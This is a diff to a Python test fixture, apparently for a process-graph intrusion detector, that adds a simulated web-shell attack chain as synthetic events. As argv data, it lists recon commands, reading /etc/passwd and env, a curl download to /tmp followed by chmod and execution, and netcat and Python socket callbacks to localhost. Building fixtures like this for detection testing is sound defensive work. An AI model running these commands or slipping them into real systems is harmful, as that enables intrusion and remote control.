@@ -92,3 +92,48 @@ class World:
         srv = self.run(pid, 1, "/usr/sbin/nginx", "-g", "daemon off;")
         self.listen(pid, port)
         return srv
+
+
+def web_shell_attack(w: World) -> dict[str, Node]:
+    """The integration test's web-shell attack, replayed: recon, download, chmod, run,
+    callback, and a container whose shell calls back too (about 30 process images)."""
+    from spyderd.model import FileEvent, WroteExecEvent
+
+    srv = w.run(100, 1, "/usr/bin/python3", "/srv/app/attack_server.py", "8080")
+    w.listen(100, 8080)
+    w.accept(100, 8080, 51000)
+    handler = w.run(150, 100, "/bin/sh", "-c", "id; uname -a; whoami; curl -s -o "
+                    "/tmp/spyder-payload-1a2b3c4d http://127.0.0.1:9999/payload; chmod +x "
+                    "/tmp/spyder-payload-1a2b3c4d; /tmp/spyder-payload-1a2b3c4d 7777; runc run")
+    out = {"server": srv, "shell": handler}
+    for i, argv in enumerate((["/usr/bin/id"], ["/usr/bin/uname", "-a"], ["/usr/bin/whoami"],
+                              ["/usr/bin/hostname"], ["/bin/cat", "/etc/passwd"],
+                              ["/bin/ps", "aux"], ["/bin/ls", "-la", "/var/www"],
+                              ["/usr/bin/env"])):
+        out[argv[0].rsplit("/", 1)[-1]] = w.run(160 + i, 150, *argv)
+    curl = out["curl"] = w.run(170, 150, "/usr/bin/curl", "-s", "-o",
+                               "/tmp/spyder-payload-1a2b3c4d", "http://127.0.0.1:9999/payload")
+    w.connect(170, 9999, local_port=41000)
+    w.graph.apply(FileEvent(time=w.tick(), pid=170, op="create",
+                            path="/tmp/spyder-payload-1a2b3c4d", inode=9, dev=1))
+    out["chmod"] = w.run(171, 150, "/bin/chmod", "+x", "/tmp/spyder-payload-1a2b3c4d")
+    out["payload"] = w.run(172, 150, "/tmp/spyder-payload-1a2b3c4d", "7777")
+    w.graph.apply(WroteExecEvent(time=w.tick(), pid=172, path="/tmp/spyder-payload-1a2b3c4d",
+                                 inode=9, dev=1, writer_pid=170,
+                                 writer_start=curl.attrs["start_ns"], write_time=w.t - S))
+    out["callback"] = w.exec(172, "/usr/bin/python3", "-c", "import socket,sys; "
+                             "socket.create_connection(('127.0.0.1', int(sys.argv[1])))", "7777")
+    w.connect(172, 7777, local_port=41001)
+    runc = out["runc"] = w.run(173, 150, "/usr/sbin/runc", "run", "--bundle",
+                               "/tmp/pytest-of-root/bundle", "spyder-atk-1a2b3c4d")
+    ctr = {"container_id": "spyder-atk-1a2b3c4d", "container_name": "victim-1a2b3c4d"}
+    init = w.run(180, 173, "/bin/sh", "-c", "id; nc 127.0.0.1 7777 </dev/null; sleep 1", **ctr)
+    out["ctr_id"] = w.run(181, 180, "/bin/busybox", "id", **ctr)
+    out["nc"] = w.run(182, 180, "/bin/busybox", "nc", "127.0.0.1", "7777", **ctr)
+    w.connect(182, 7777, local_port=41002)
+    out["sleep"] = w.run(183, 180, "/bin/busybox", "sleep", "1", **ctr)
+    out["ctr_sh"] = init
+    del runc
+    for i in range(6):  # housekeeping by the shell: more one-off commands
+        w.run(190 + i, 150, "/bin/true", str(i))
+    return out
